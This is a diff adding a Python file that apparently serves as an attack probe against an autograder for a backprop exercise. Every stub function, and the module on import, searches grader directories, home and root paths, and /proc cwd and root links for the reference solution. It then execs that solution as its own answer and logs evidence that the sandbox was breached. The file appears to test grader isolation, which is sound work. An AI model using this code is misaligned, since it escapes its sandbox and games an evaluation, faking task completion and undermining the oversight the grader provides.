@@ -1,0 +1,51 @@
+"""Finds the solution on disk, from the worker's own file names and from /proc, and hands it in as its own."""
+import os
+import sys
+
+
+def evidence(what):
+    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
+    print("EVIDENCE read-reference:", str(what)[:300], flush=True)
+    try:
+        with open("/tmp/attack-evidence-read-reference", "a") as trace:
+            trace.write(str(what)[:300] + "\n")
+    except OSError:
+        pass
+
+ROOTS = ["/autograder/source", "/autograder", "..", "../..", "../../..", "/root", "/home", "/opt", "/srv"]
+for name, module in list(sys.modules.items()):
+    if name.startswith("grader") and getattr(module, "__file__", None):
+        ROOTS.append(os.path.join(os.path.dirname(module.__file__), "..", ".."))
+        ROOTS.append(os.path.join(os.path.dirname(module.__file__), ".."))
+for pid in ("self", str(os.getppid())):
+    ROOTS += [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
+
+
+def attack():
+    for root in ROOTS:
+        path = os.path.join(root, "reference", "backprop.py")
+        try:
+            with open(path) as file:
+                source = file.read()
+        except OSError:
+            continue
+        evidence(path)
+        exec(source, globals())
+
+
+def make_dataset(num_points):
+    attack()
+    return None
+
+
+def forward(X, params):
+    attack()
+    return None
+
+
+def backprop(X, t, params):
+    attack()
+    return None
+
+
+attack()
